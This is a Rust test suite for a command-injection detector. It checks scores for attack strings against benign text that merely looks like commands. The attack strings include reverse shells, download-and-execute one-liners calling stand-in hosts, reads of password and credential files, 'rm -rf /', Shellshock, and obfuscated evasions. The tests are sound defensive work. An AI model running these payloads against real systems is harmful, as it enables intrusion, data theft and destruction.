use super::gate_tests::known_program_spec;
use super::*;
use crate::other_util::take_steps;
use crate::test_tables::{assert_all_at_least, assert_all_below};
use crate::FieldKind;
use palisade_testkit::rng::XorShift64;

fn q(v: &str) -> u8 {
    detector().check(&Input { raw: v, decoded: v, field: FieldKind::QueryValue }, Level::Strict).map_or(0, |h| h.confidence)
}

#[test]
fn attacks() {
    assert_all_at_least(
        &[
            ";id",
            "; id",
            "a;id|",
            "| whoami",
            "' || whoami",
            "\"; cat /etc/passwd",
            "127.0.0.1 && ping -c 3 evil.com",
            "`ping 127.0.0.1`",
            "$(sleep 5)",
            "x$(id)",
            "a);/usr/bin/id",
            "; c''at /etc/passwd",
            "'i'd",
            "x;i'd' ",
            "a;w'h'o'am'i",
            "; c\\at /etc/passwd",
            ";w^h^o^a^m^i",
            "cat${IFS}/etc/passwd",
            ";cat$IFS$9/etc/passwd",
            "{cat,/etc/passwd}",
            "a;{ id; }",
            "& dir C:\\Users",
            "| type %SYSTEMROOT%\\repair\\SAM",
            "& ipconfig /all",
            "\nid\n",
            "() { :;}; /bin/bash -c \"id\"",
            "powershell -enc SQBFAFgA",
            "IEX(New-Object Net.WebClient).DownloadString('http://x/a')",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "; nc -lvvp 4444 -e /bin/sh",
            "<!--#exec cmd=\"/bin/ls\" -->",
            "ls -la /var/www",
            "x; rm -rf /",
            "%0aid",
        ],
        Level::Balanced,
        q,
    );
}

#[test]
fn prose_and_benign() {
    assert_all_below(
        &[
            "I like my cat; she likes me",
            "cats and dogs; ls is not a word here",
            "Tom & Jerry",
            "salt & pepper; more please",
            "type here",
            "more info",
            "find a store near you",
            "Use `ls` to list files in the directory, then `cd` into it",
            "1;1;1;CONTROL;0;0;1;",
            "id",
            "ls",
            "time & date",
            "R&D; head of sales",
            "rock & roll; sleep well",
            "He said: 'echo' and left",
            "see the docs (id, name)",
            "I can't find it; which one?",
            "https://example.com/a?b=1&c=2",
            "{\"a\": [1, 2, {\"b\": \"c\"}]}",
            "Hello, world! How are you?",
            "price: 10 | 20 | 30",
            "(cat) is an animal",
            // An apostrophe that never closes does not hide a command name (`I'd` is not `id`).
            "I'd like to order 2 pizzas; one with cheese & one without.",
            "I'd say yes | no",
            // Template placeholders are literal words to a shell.
            "Hello {{name}}, your order {{id}} shipped",
            "{id}",
            "x;{whoami}",
        ],
        Level::Balanced,
        q,
    );
}

#[test]
fn linear_on_large_inputs() {
    for unit in [";id", "`", "$(", "a ", "c''", "{,", "$IFS", "() {;}", "iex", " -e", "\\n"] {
        let v = unit.repeat(1_000_000 / unit.len());
        take_steps();
        let _ = detector().check(&Input { raw: &v, decoded: &v, field: FieldKind::QueryValue }, Level::Strict);
        let steps = take_steps();
        assert!(steps < 80 * v.len() as u64, "{unit}: {steps}");
    }
}

#[test]
fn markdown_shows_commands_it_does_not_inject_them() {
    // A code span after prose and a fenced block: below the balanced threshold, still a
    // strict-level signal.
    for v in ["Try `git log --oneline | head -5`", "Could you explain ```python\nfor i in range(10):\n    print(i)\n```", "```sh\ncat /etc/hosts\n```"] {
        let c = q(v);
        assert!((40..60).contains(&c), "{v}: {c}");
    }
    // The same commands as injections.
    for v in ["x; git log --oneline | head -5", "`cat /etc/hosts`", ";`whoami`"] {
        assert!(q(v) >= 60, "{v}: {}", q(v));
    }
    // A program name followed by one plain word is a phrase; a whole command line is not.
    assert!(q("curl cream") < 60);
    assert!(q("netsh firewall set opmode disable") >= 60);
}

#[test]
fn pre_filter_never_hides_a_command() {
    // Every form the tokenizer recognises passes the pre-filter.
    for v in [";id", "a|/usr/bin/id", "x`w'h'oami`", "c\\at /etc/passwd", ";w^h^o^a^m^i", "{cat,/etc/passwd}", "a\\nid", "cmd+/c+dir", "() { :; }; echo"] {
        assert!(may_hold_command(v), "{v}");
    }
    for v in ["It's the best product I've ever bought", "jane.doe@example.com", "2024-05-14", "Wireless Mouse"] {
        assert!(!may_hold_command(v), "{v}");
    }
}

#[test]
fn escaped_layers_and_terminal_sequences_hide_no_command() {
    // One escaping layer (`\n`, `` \` ``) and literal terminal control sequences that move the
    // cursor before the command.
    for v in [
        "x\\n\\e[1Auname -a",
        "log\\n\\x1b[0mcurl http://203.0.113.9/a.sh",
        "report.pdf\\u001b[2K\\nwget http://198.51.100.2/x",
        "ok\\nq?name=\\`uname -a\\`",
        "ok\\nsleep 10\\n",
        "tag=`whoami`",
    ] {
        assert!(q(v) >= 60, "{v:?}: {}", q(v));
    }
    for v in ["C:\\new\\report.txt", "printf(\"%d\\n\", sleep)", "color \\e[1m bold \\e[0m text", "use \\` to quote"] {
        assert!(q(v) < 60, "{v:?}: {}", q(v));
    }
    // The pre-filter sees the command behind a control sequence.
    assert!(may_hold_command("\\033[2Aid"));
    assert!(may_hold_command("a\\e[Kid"));
}

#[test]
fn bare_command_lines_need_a_system_target() {
    // Without a separator a command line runs only where the whole value is executed; it is
    // reported when it aims at the system.
    for v in ["ls -l /", "rm -rf /var/www", "type %WINDIR%\\win.ini", "perl -e 'system(1)'", "net user", "which nc", "wget http://192.0.2.7/x", "dir c:"] {
        assert!(q(v) >= 60, "{v:?}: {}", q(v));
    }
    // Documentation shows command lines with flags and project-relative names.
    for v in ["rm -rf node_modules", "curl -s -H 'Authorization: Bearer TOKEN' https://api.example.org/v2/users", "tar -xzf release.tgz", "`grep -rn TODO src`"]
    {
        let c = q(v);
        assert!((40..60).contains(&c), "{v:?}: {c}");
    }
    // A substitution that is the whole value but reaches the system stays an attack.
    for v in ["`cat /etc/shadow`", "`id`", "`nc 10.1.1.1 9001 -e sh`"] {
        assert!(q(v) >= 60, "{v:?}: {}", q(v));
    }
}

#[test]
fn unescape_view_is_linear() {
    for unit in ["\\033[", "\\n", "\\e[1;", "\\`", "\\x1b[9"] {
        let v = unit.repeat(1_000_000 / unit.len());
        take_steps();
        let out = unescape_view(&v);
        let steps = take_steps();
        assert!(steps <= v.len() as u64 + 1, "{unit}: {steps}");
        assert!(out.len() <= v.len());
    }
}

#[test]
fn computed_program_names() {
    // Written for this detector: the shell computes the program from a glob, ANSI-C quoting
    // or a substitution's output.
    for v in
        [";/???/?at /???/p?ss??", "|/usr/bin/wh?ami", "& /b?n/c*t /etc/hosts", "a; $'\\x69\\x64'", "x;$'\\167\\150\\157\\141\\155\\151'", ";$(printf 'id')"]
    {
        assert!(q(v) >= 60, "{v:?}: {}", q(v));
        assert!(may_hold_command(v), "{v:?}");
    }
    // Comments, wildcard searches and function calls are not programs.
    for v in ["x\n/**/", "see /docs/*.md; /src/**/mod.rs", "1\n/1/**/union", "`printf(\"%d\\n\", n);`", "a; f($'x')", "Price ($'s)"] {
        assert!(q(v) < 60, "{v:?}: {}", q(v));
    }
}

#[test]
fn html_character_references_are_not_operators() {
    for v in ["&copy; 2024 Example Inc.", "Fish &amp; chips", "&lt;b&gt;bold&lt;/b&gt;", "Terms &amp; conditions; type &quot;yes&quot;"] {
        assert!(q(v) < 60, "{v:?}: {}", q(v));
    }
    for v in ["a&whoami;", "x & copy C:\\Windows\\win.ini \\\\evil\\s", "&id"] {
        assert!(q(v) >= 60, "{v:?}: {}", q(v));
    }
}

#[test]
fn ansi_c_quoting_with_a_multibyte_escape_does_not_panic() {
    // Found by `detect_cmdi`: `$'\` then a multi-byte character.
    for v in ["$'\\\u{fffd}", "$'\\é'", "a; $'\\\u{10ffff}\\x41'", "$'\\", "$'\\x"] {
        let _ = q(v);
        let _ = may_hold_command(v);
    }
}

#[test]
fn bare_words_agree_with_the_analysis() {
    let mut words: Vec<String> = Vec::new();
    for w in PROGRAMS.iter().chain(AMBIGUOUS).chain(RECON) {
        words.push(w.to_string());
        words.push(w.to_ascii_uppercase());
        words.push(format!("{w}_x"));
        words.push(format!("{w}2"));
    }
    words
        .extend(["id", "ID", "Id", "whoami", "WhoAmI", "customer", "created_at", "user_id", "x", "a1b2", "powershell", "iex", "cmd", "bash"].map(String::from));
    // And every value of the corpus (when `../shared` is there) and of our benign sets.
    let mut files = vec![std::path::PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../../../shared/data/attack-corpus/corpus.jsonl"))];
    files.extend(std::fs::read_dir(concat!(env!("CARGO_MANIFEST_DIR"), "/data/benign")).unwrap().flatten().map(|e| e.path()));
    for f in files {
        let Ok(text) = std::fs::read_to_string(&f) else { continue };
        for line in text.lines() {
            if let Some(s) = serde_json::from_str::<serde_json::Value>(line).ok().and_then(|v| v.get("value")?.as_str().map(String::from)) {
                words.push(s);
            }
        }
    }
    let mut checked = 0;
    for w in words.iter().filter(|w| bare_word(w)) {
        assert_eq!(analyse(w, 0, false), None, "{w:?}");
        checked += 1;
    }
    assert!(checked > 1000, "{checked} bare words checked");
    // Not bare words: left to the analysis.
    for w in ["id;", "/bin/id", "i$@d", "who ami", "", "ls -la", "a.exe"] {
        assert!(!bare_word(w), "{w:?}");
    }
}

/// The gate's bare-word answer ([`gate_test`]): yes exactly for an unambiguous program (which
/// the check still does not report alone); other values go to [`program_in_command_position`].
#[test]
fn gate_test_agrees_with_bare_word() {
    let mut words: Vec<String> = Vec::new();
    for w in PROGRAMS.iter().chain(AMBIGUOUS).chain(RECON) {
        words.extend([w.to_string(), w.to_ascii_uppercase(), format!("{w}_x"), format!("{w}2"), format!("x{w}")]);
    }
    words.extend(["id", "ID", "source", "created_at", "customer", "whoami", "WhoAmI", "a", "_", "0", &"a".repeat(64), &"a".repeat(65)].map(String::from));
    let mut bare = 0;
    for w in &words {
        if SPECIAL_ANCHORS.any(w) {
            // A gate literal: the gate is open before its test runs.
            continue;
        }
        if !bare_word(w) {
            assert_eq!(gate_test(w), program_in_command_position(w), "{w:?}");
            continue;
        }
        bare += 1;
        // The gate admits every unambiguous program (what the analysis of a word with
        // arguments needs); the check reports none of them alone.
        assert_eq!(gate_test(w), bare_program(w.as_bytes()), "{w:?}");
        assert_eq!(CmdiDetector.check(&Input { raw: w, decoded: w, field: FieldKind::QueryValue }, Level::Strict), None, "{w:?}");
    }
    assert!(bare > 1000, "{bare} bare words");
    // The literal anchors decide those words (bare_word leaves them to the analysis).
    assert!(!bare_word("powershell") && gate_test("whoami") && !gate_test("id") && !gate_test("created_at"));
    // Not bare words: the walk.
    assert!(gate_test("x; id") && gate_test("id -a") && !gate_test("id-card"));
}

#[test]
fn single_words_agree_with_the_walk() {
    let mut words: Vec<String> = PROGRAMS.iter().filter(|p| p.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_')).map(|p| p.to_string()).collect();
    let n = words.len();
    for i in 0..n {
        words.push(words[i].to_ascii_uppercase());
        words.push(format!("{}_x", words[i]));
        words.push(format!("{}1", words[i]));
    }
    words.extend(
        ["", "a", "customer", "id", "ID", "whoami", "Whoami", "ord_7f3a9c2e41b84d0f", "abcdefghijklmnopqrstuvwxyz0123456789", "cat", "xcat"].map(String::from),
    );
    assert!(words.len() > 400, "{}", words.len());
    for w in &words {
        assert_eq!(plain_or_walk(w.as_bytes(), 0), command_position_walk(w.as_bytes()), "{w:?}");
    }
    assert!(program_in_command_position("whoami") && program_in_command_position("x; whoami") && !program_in_command_position("customer"));
}

/// The plain-value path of [`plain_or_walk`] says what the walk says: over every value of the
/// development corpus (`../shared`, when present) and of the benign sets, each also with a program put in front, after a blank and at the end, and over
/// programs with blanks, `+`, `,`, `.exe` and case changes around them.
#[test]
fn plain_values_agree_with_the_walk() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    let mut files: Vec<_> = std::fs::read_dir(root.join("data/benign")).unwrap().map(|e| e.unwrap().path()).collect();
    let corpus = root.join("../../../shared/data/attack-corpus/corpus.jsonl");
    if corpus.exists() {
        files.push(corpus);
    } else {
        println!("skipping the development corpus ({} not found); benign sets only", corpus.display());
    }
    let mut values: Vec<String> = Vec::new();
    for f in files.iter().filter(|p| p.extension().is_some_and(|e| e == "jsonl")) {
        values.extend(crate::eval::parse_corpus(&std::fs::read_to_string(f).unwrap()).unwrap().into_iter().map(|s| s.value));
    }
    let n = values.len();
    for i in 0..n {
        let v = values[i].clone();
        values.push(format!("whoami {v}"));
        values.push(format!(" +,Cat.EXE {v}"));
        values.push(format!("{v} id"));
        values.extend(v.split_whitespace().map(String::from));
    }
    for p in PROGRAMS {
        values.extend([p.to_string(), format!("  {p} -x"), format!("+{p}+1"), format!(",{}.exe", p.to_uppercase()), format!("x {p}"), format!("{p}\x0b")]);
    }
    let (mut plain, mut yes) = (0usize, 0usize);
    for v in &values {
        let walk = command_position_walk(v.as_bytes());
        assert_eq!(program_in_command_position(v), walk, "{v:?}");
        assert!(walk || !spec_program_in_command_position(v), "{v:?}");
        assert_eq!(plain_or_walk(v.as_bytes(), 0), walk, "{v:?}");
        if !v.bytes().any(|c| PLAIN_CLASS[c as usize] == NOT_PLAIN) {
            plain += 1;
            yes += walk as usize;
        }
    }
    println!("{} values, {plain} plain ({yes} yes)", values.len());
    assert!(plain > values.len() / 4 && yes > 100, "{plain} {yes}");
}

/// The gate's test ([`gate_test`]) and [`program_in_command_position`] say what the walk
/// says ([`bare_word`] for a bare word), and the walk finds every program the grammar puts in
/// command position ([`spec_program_in_command_position`]), on generated
/// values: concatenations of programs (plain, upper case, with `.exe`, after a path), URL and
/// path pieces (`https://x.org/v2/`, `{size}`, `/???/?at`), operators, blanks, quotes, escapes,
/// `$IFS`, ANSI-C quoting and words longer than any program; and the whole gate (`%`, the
/// literals, the test) admits each of those the check reports (those whose length is a
/// multiple of 8: the check costs more).
#[test]
fn gate_test_agrees_with_the_walk_and_the_grammar_on_generated_values() {
    const PARTS: &[&str] = &[
        "cat",
        "whoami",
        "id",
        "ls",
        "nc",
        "CAT.EXE",
        "Bash",
        "size",
        "uname",
        "x",
        "abc",
        "0ea827",
        "6_1",
        "abcdefghijklmnopqrstuvwxyz",
        "formatting-dates",
        "2016-01-14T06:30:45.397Z",
        "/",
        "/usr/bin/",
        "/bin/",
        "/???/?at",
        "*",
        "?",
        ".png",
        "https://avatars.discourse.org/v2/letter/z/",
        "/user_avatar/d.com/system/",
        "{size}",
        "{",
        "}",
        ";",
        "|",
        "||",
        "&",
        "&&",
        "`",
        "$(",
        "(",
        ")",
        "<",
        ">",
        "\n",
        "\r",
        "\\n",
        "\\r",
        " ",
        "  ",
        "+",
        ",",
        "\t",
        "\x0b",
        "'",
        "\"",
        "^",
        "$'\\x69d'",
        "$IFS",
        "${IFS}",
        "${IFS",
        "$@",
        "$1",
        "$",
        "\\",
        "\\033[0m",
        "\\e[1m",
        ".",
        "-",
        ":",
        "_",
        "=",
        "@",
        "%",
        "é",
    ];
    let mut rng = XorShift64::new(0x2545_f491_4f6c_dd1d);
    let (mut yes, mut walks, mut bare, mut fired, mut by_spec) = (0usize, 0usize, 0usize, 0usize, 0usize);
    for _ in 0..200_000 {
        let mut v = String::new();
        for _ in 0..1 + rng.below(8) {
            v.push_str(PARTS[rng.below(PARTS.len())]);
        }
        let walk = command_position_walk(v.as_bytes());
        assert_eq!(program_in_command_position(&v), walk, "{v:?}");
        let spec = spec_program_in_command_position(&v);
        assert!(walk || !spec, "{v:?}: the grammar puts a program in command position");
        by_spec += usize::from(spec);
        let word = !v.is_empty() && v.len() <= 64 && v.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_');
        if word {
            // A gate literal opens the gate before its test runs; bare_word leaves those words
            // to the analysis.
            if bare_word(&v) {
                bare += 1;
                assert_eq!(gate_test(&v), bare_program(v.as_bytes()), "{v:?}");
            }
        } else {
            walks += 1;
            // Prose that starts with an ambiguous program: no, and nothing for the check to find.
            let harmless = walk && harmless_prose(v.as_bytes());
            assert_eq!(gate_test(&v), walk && !harmless, "{v:?}");
            if harmless {
                let input = Input { raw: &v, decoded: &v, field: FieldKind::QueryValue };
                assert_eq!(CmdiDetector.check(&input, Level::Strict), None, "{v:?}");
            }
        }
        yes += usize::from(walk);
        // And the gate as the engine declares it (`%`, the literals, the test) lets through
        // every value the check reports.
        if v.len() % 8 == 0 {
            let input = Input { raw: &v, decoded: &v, field: FieldKind::QueryValue };
            if let Some(h) = CmdiDetector.check(&input, Level::Strict) {
                fired += 1;
                assert!(v.contains('%') || SPECIAL_ANCHORS.any(&v) || gate_test(&v), "{v:?} fires ({}) but the gate is closed", h.why);
            }
        }
    }
    assert!(
        yes > 20_000 && walks > 150_000 && bare > 1_000 && fired > 1_000 && by_spec > 10_000,
        "{yes} yes, {walks} walked, {bare} bare words, {fired} hits, {by_spec} by the grammar"
    );
}

/// A program in command position as the shell's grammar puts it, written for the test from
/// the rules rather than the walk: the value is cut into commands at every operator
/// ([`is_gate_op`]: `;` `|` `&` `` ` `` `(` `)` `{` `}` `<` `>`, line breaks, `$(`, `\n`/`\r`
/// written out) and at every CSI escape; each command's first word (after blanks: whitespace,
/// `+`, `,`, `$IFS`, a `${IFS...}` expansion) loses its quotes and `^`, is lowercased and cut to its base name
/// after the last `/` or `\`, and is looked up in the lists. The walk reads more words than
/// these (it is a superset: `$@`, `\` inside a word, glob paths, ANSI-C quoting), so the
/// property is one way: what this finds, the walk finds.
fn spec_program_in_command_position(v: &str) -> bool {
    // `${IFS...}` is a parameter expansion (its text is no command) that expands to a blank.
    let mut text = String::new();
    let mut rest = v;
    while let Some(p) = rest.find("${IFS") {
        text.push_str(&rest[..p]);
        text.push(' ');
        rest = rest[p..].find('}').map_or(&rest[p + 5..], |e| &rest[p + e + 1..]);
    }
    text.push_str(rest);
    let b = text.as_bytes();
    let mut commands: Vec<&[u8]> = Vec::new();
    let (mut start, mut i) = (0, 0);
    while i < b.len() {
        let csi = csi_len(&b[i..]);
        let op = if csi > 0 {
            csi
        } else if is_gate_op(b[i], b.get(i + 1).copied().unwrap_or(0)) {
            if matches!(b[i], b'$' | b'\\') {
                2
            } else {
                1
            }
        } else {
            0
        };
        if op > 0 {
            commands.push(&b[start..i]);
            i += op;
            start = i;
        } else {
            i += 1;
        }
    }
    commands.push(&b[start..]);
    commands.iter().any(|c| {
        let text = String::from_utf8_lossy(c).replace("$IFS", " ");
        let Some(word) = text.split(|ch: char| ch.is_ascii_whitespace() || ch == '+' || ch == ',').find(|w| !w.is_empty()) else { return false };
        let word: String = word.chars().filter(|ch| !matches!(ch, '\'' | '"' | '^')).collect::<String>().to_ascii_lowercase();
        let base = word.rsplit(['/', '\\']).next().unwrap_or("");
        let mut buf = [0u8; 20];
        base.len() <= 20 && {
            buf[..base.len()].copy_from_slice(base.as_bytes());
            known_program_spec(&buf, base.len())
        }
    })
}

/// The automaton of [`specials`] finds what `str::find` (the first occurrence of each
/// pattern) and `str::match_indices` (every `iex` and ` -e`) find, on generated values.
#[test]
fn special_matches_are_those_of_a_search_per_pattern() {
    let parts = [
        "() {",
        "()",
        " { ",
        ";",
        "}",
        "=",
        "'",
        "<!--#exec",
        "/dev/tcp/",
        "/dev/udp/",
        "%COMSPEC%",
        "invoke-expression",
        "Invoke-WebRequest",
        "invoke-restmethod",
        "DownloadString(",
        "downloadfile(",
        "net.webclient",
        "start-process",
        "frombase64string(",
        "iex",
        "IEX",
        "(",
        "|",
        "x",
        "powershell",
        "pwsh",
        " -e",
        " -enc",
        " -EncodedCommand",
        " -c",
        " ",
        "cmd /c",
        "cmd.exe /c",
        "cmd /k",
        "cmd.exe /K",
        "/bin/sh -c",
        "/bin/bash -c",
        "bash -i",
        "sh -i",
        "a",
        "é",
        "ie",
        "x ",
    ];
    let pats = special_patterns();
    let mut rng = XorShift64::new(0x2545_f491_4f6c_dd1d);
    let mut found = 0;
    for _ in 0..40_000 {
        let l = rng.joined(&parts, 8).to_ascii_lowercase();
        let mut want = SpecialMatches { first: [None; SP_COUNT], iex: SmallVec::new(), dash_e: SmallVec::new() };
        for (k, p) in pats.iter().enumerate() {
            want.first[k] = l.find(p);
        }
        want.iex.extend(l.match_indices("iex").map(|(i, _)| i));
        want.dash_e.extend(l.match_indices(" -e").map(|(i, _)| i));
        found += usize::from(want.first.iter().any(Option::is_some));
        assert_eq!(special_matches(&l), want, "{l:?}");
    }
    assert!(found > 10_000, "{found}");
}

#[test]
fn separators_and_quotes_alone_are_a_strict_probe() {
    let balanced = |v: &str| detector().check(&Input { raw: v, decoded: v, field: FieldKind::QueryValue }, Level::Balanced);
    // Written for this rule, not taken from a corpus.
    for v in [";", " ; ", "|", "||", "&", "&&", "`", "\n", "\r\n", "\\n", "\\r\\n", "'", "\"", "'\"", "\"'", ";'", "|\n", "';", "`;`"] {
        assert_eq!(q(v), 45, "{v:?}");
        assert!(balanced(v).is_none(), "{v:?}");
        assert!(gate_test_or_probe(v), "{v:?}");
    }
    for v in ["''", "\"\"", "a;", "; a", ";;;;", "' OR", "\\", "\\t", "", " ", "-", "N/A", "1;2", "x|y"] {
        assert_eq!(q(v), 0, "{v:?}");
    }
}

#[test]
fn a_blank_written_as_ifs_before_the_program_is_evasion() {
    // Written for this rule, not taken from a corpus.
    for v in ["${IFS}id", "$IFS/usr/bin/whoami", "${IFS}cat${IFS}/etc/hosts", "${IFS}uname"] {
        assert!(q(v) >= 80, "{v:?}: {}", q(v));
    }
    for v in ["IFS=, read -r a b", "while IFS= read -r line; do echo \"$line\"; done", "id", "${name}"] {
        assert!(q(v) < 60, "{v:?}: {}", q(v));
    }
}

#[test]
fn a_backtick_span_glued_inside_a_word_is_a_substitution() {
    // Written for this rule, not taken from a corpus.
    for v in ["a`uname -a`b", "x`id`y", "report`whoami`txt", "v1`cat /etc/hostname`2"] {
        assert!(q(v) >= 60, "{v:?}: {}", q(v));
    }
    // Markdown spans between words, CJK prose glued to a span, tagged templates, SQL names.
    for v in
        ["run `ls -la` to list", "使用`ls`命令", "html`<p>${name}</p>`;", "SELECT `id`,`name` FROM `db`.`users`", "Use `id` and `date`, then ```sh\nid\n```"]
    {
        assert!(q(v) < 60, "{v:?}: {}", q(v));
    }
}

/// Every pattern [`specials`] looks for holds a special literal, in its `+`-for-blank reading
/// too; the Shellshock pattern needs `() {` (or `()+{`), not `()` alone: a function call in
/// prose opens no gate, and the check finds nothing in it.
#[test]
fn shellshock_needs_its_literal() {
    let mut pats: Vec<&str> = vec!["() {", "<!--#exec"];
    pats.extend(SHELL_LITERALS.iter().map(|p| p.0));
    pats.extend(["iex", "powershell", "pwsh"]);
    pats.extend(SHELL_INVOKED);
    for p in pats {
        assert!(SPECIAL_ANCHORS.any(p) && SPECIAL_ANCHORS.any(&p.replace(' ', "+")), "{p:?}");
    }
    for v in ["() { :; }; echo x", "()+{+:;+};+id", "x=() { :;}; /bin/id"] {
        assert!(SPECIAL_ANCHORS.any(v), "{v:?}");
        let input = Input { raw: v, decoded: v, field: FieldKind::Header };
        assert!(CmdiDetector.check(&input, Level::Strict).is_some(), "{v:?}");
    }
    let v = "Can I use DATEPART() in SQL queries?";
    assert!(!SPECIAL_ANCHORS.any(v) && !gate_test_or_probe(v));
    assert_eq!(CmdiDetector.check(&Input { raw: v, decoded: v, field: FieldKind::JsonValue }, Level::Strict), None);
    // Escapes written out are replaced by a character each, never dropped: no `() {` appears.
    for v in ["()\\n {", "(\\n) {", "()\\033[0m{", "(\\`) {"] {
        assert!(!unescape_view(v).contains("() {"), "{v:?}");
    }
}

/// A URL or query string whose last parameter has no value (`?page=2&sort`) is not a background
/// job then a program; the same word after `&` with a blank, without a preceding
/// `name=value`, or with arguments stays a command. Written for this rule.
#[test]
fn a_flag_parameter_after_a_query_ampersand_is_not_a_command() {
    for v in [
        "https://shop.example/list?page=2&sort",
        "https://www.cat.bing.com.br/?page=2&sort",
        "/orders?limit=20&id",
        "q=shoes&more",
        "https://a.example/x?top&more",
        "https://a.example/x?view=full&print&head",
    ] {
        assert_eq!(q(v), 0, "{v:?}");
    }
    for v in ["127.0.0.1&whoami", "x & whoami", "page=2 & whoami", "page=2&id -a", "q=1&cat${IFS}/etc/passwd", "a=1;id", "a=1|id", "a=1&&id"] {
        assert!(q(v) >= 60, "{v:?}: {}", q(v));
    }
}

#[test]
fn tags_of_rich_text_are_no_redirections() {
    // A paragraph from a rich-text editor: `</p>` after `more` is no `< /p` then `>`.
    for v in ["<p>Books &amp; more</p>", "<li>Books &amp; more</li>", "<p>Sales &amp; more deals</p>", "Books & more</p>"] {
        assert!(q(v) < 60, "{v}: {}", q(v));
    }
    for (b, n) in [(&b"<p>x"[..], 3), (b"</li>", 5), (b"<br/>", 5), (b"</etc/passwd", 0), (b"<1>", 0), (b"</>", 0), (b"< p>", 0), (b"<p", 0)] {
        assert_eq!(bare_tag_len(b), n, "{}", String::from_utf8_lossy(b));
    }
    // A redirection to or from a path still is one.
    for v in ["x;more</etc/passwd", ";cat</etc/passwd", "a;id>/tmp/x", "a;ls<br>"] {
        assert!(q(v) >= 60, "{v}: {}", q(v));
    }
}

#[test]
fn a_bare_word_is_not_a_command() {
    let conf = |v: &str, field: FieldKind, level: Level| detector().check(&Input { raw: v, decoded: v, field }, level).map_or(0, |h| h.confidence);
    // Search suggestions, autocomplete prefixes, JSON values: a word that is also a program.
    for v in ["pwd", "ls", "gzip", "hostname", "nc", "cd", "at", "id", "whoami", "ifconfig", "Netstat", "uname"] {
        for field in [FieldKind::QueryValue, FieldKind::JsonValue, FieldKind::PathSegment, FieldKind::QueryName, FieldKind::JsonKey] {
            assert_eq!(conf(v, field, Level::Balanced), 0, "{v:?} {field:?}");
        }
    }
    // At strict too, a reconnaissance word included: a search for `whoami` runs nothing.
    for v in ["whoami", "pwd", "ifconfig", "ls", "gzip", "hostname", "cat", "curl"] {
        for field in [FieldKind::QueryValue, FieldKind::PathSegment] {
            assert_eq!(conf(v, field, Level::Strict), 0, "{v:?} {field:?}");
        }
    }
    // With a separator, a substitution or shell arguments it is a command line.
    for v in ["ls;", ";ls", "whoami;", "| whoami", "$(pwd)", "`hostname`", "x; gzip -d /tmp/a", "ls -la /etc", "a&&id"] {
        assert!(conf(v, FieldKind::QueryValue, Level::Balanced) >= 60, "{v:?}: {}", conf(v, FieldKind::QueryValue, Level::Balanced));
    }
}

#[test]
fn options_that_run_commands_are_argument_injection() {
    // Values an application passes as an argument of ssh, git or tar, written for this rule.
    for v in [
        "-oProxyCommand=curl e.example|sh",
        "-o ProxyCommand=id",
        "x -oLocalCommand=touch${IFS}/tmp/p",
        "--upload-pack=touch /tmp/pwn",
        "--receive-pack='id'",
        "--checkpoint=1 --checkpoint-action=exec=sh shell.sh",
        "--use-compress-program=sh",
        "--to-command=id",
    ] {
        assert!(q(v) >= 80, "{v}: {}", q(v));
    }
    // The directive as configuration text, options that run nothing.
    for v in ["ProxyCommand ssh -W %h:%p bastion", "--upload", "--output-dir", "-o", "--checkpoint=10"] {
        assert!(q(v) < 60, "{v}: {}", q(v));
    }
}

#[test]
fn stack_frames_after_a_newline_are_not_commands() {
    for v in [
        "TypeError: t is undefined\n    at sleep (https://static.shop.example/js/app.js:12:88)",
        "Error\n  at time (vendor.js:3:10)\n  at Object.run (main.js:1:1)",
    ] {
        assert!(q(v) < 60, "{v:?}: {}", q(v));
    }
    for v in ["x\nat now + 1 minute", "x\nid", "x\ntime sleep 5", "a\ncat /etc/passwd (x)"] {
        assert!(q(v) >= 60, "{v:?}: {}", q(v));
    }
}

#[test]
fn a_program_named_in_a_code_span_between_words_is_prose() {
    // Written for this rule: a code span naming a program between prose words runs nothing.
    for v in ["Use the `ls` command to list files", "type `whoami` and press enter", "the `rm` tool deletes", "Le `cat` affiche"] {
        assert_eq!(q(v), 0, "{v:?}");
    }
    // The same span at the end of the value, with arguments, or glued into a word still counts.
    for v in ["hello `id`", "name `whoami`", "x`id`y"] {
        assert!(q(v) >= 40, "{v:?}: {}", q(v));
    }
}

#[test]
fn an_ambiguous_word_in_parentheses_after_text_is_an_aside() {
    // Written for this rule: PromQL grouping, a parenthesised aside in prose.
    for v in ["sum by (host) (up)", "count by (date) of orders", "the slot (time) we agreed"] {
        assert!(q(v) < 40, "{v:?}: {}", q(v));
    }
    // After a separator, with a program that is no word, or with arguments, a subshell.
    for v in ["x;(id)", "a|(sleep 5)", "note (whoami)"] {
        assert!(q(v) >= 40, "{v:?}: {}", q(v));
    }
}

#[test]
fn a_double_dash_between_words_is_a_dash() {
    // Written for this rule: `--` typed for a dash after a name that is also a program.
    for v in ["rm -- the band", "cat -- the musical", "sort -- of a list"] {
        assert!(q(v) < 40, "{v:?}: {}", q(v));
    }
    // `--` before real arguments, or a long option, still makes a command line.
    for v in ["rm -- /etc/passwd", "curl --data x http://a.example/", "x; rm -- -rf"] {
        assert!(q(v) >= 40, "{v:?}: {}", q(v));
    }
}

/// What the engine reports for `v` as free text (a search box's value), at `level`.
fn free(v: &str, level: Level) -> u8 {
    let input = Input { raw: v, decoded: v, field: FieldKind::QueryValue };
    CmdiDetector.check(&input, level).and_then(|h| CmdiDetector.in_free_text(&input, h, level)).map_or(0, |h| h.confidence)
}

#[test]
fn free_text_is_not_a_command_line() {
    // Written for this rule: searches and suggestion prefixes that begin with a program.
    for v in ["cat /etc/hosts linux", "nc -l port listen", "chmod 777 meaning", "ifconfig -la", "uname -a", "curl --help"] {
        assert!(q(v) >= 40, "{v:?}: {}", q(v));
        assert_eq!(free(v, Level::Strict), 0, "{v:?}");
    }
    // A command the text starts with an operator, or obfuscated, still counts.
    for v in ["; cat /etc/passwd", "x; curl http://evil.example/x | sh", "$(whoami)", "x && whoami", "`id`", "c'a't /etc/passwd"] {
        assert!(free(v, Level::Balanced) >= 60, "{v:?}: {}", free(v, Level::Balanced));
    }
}
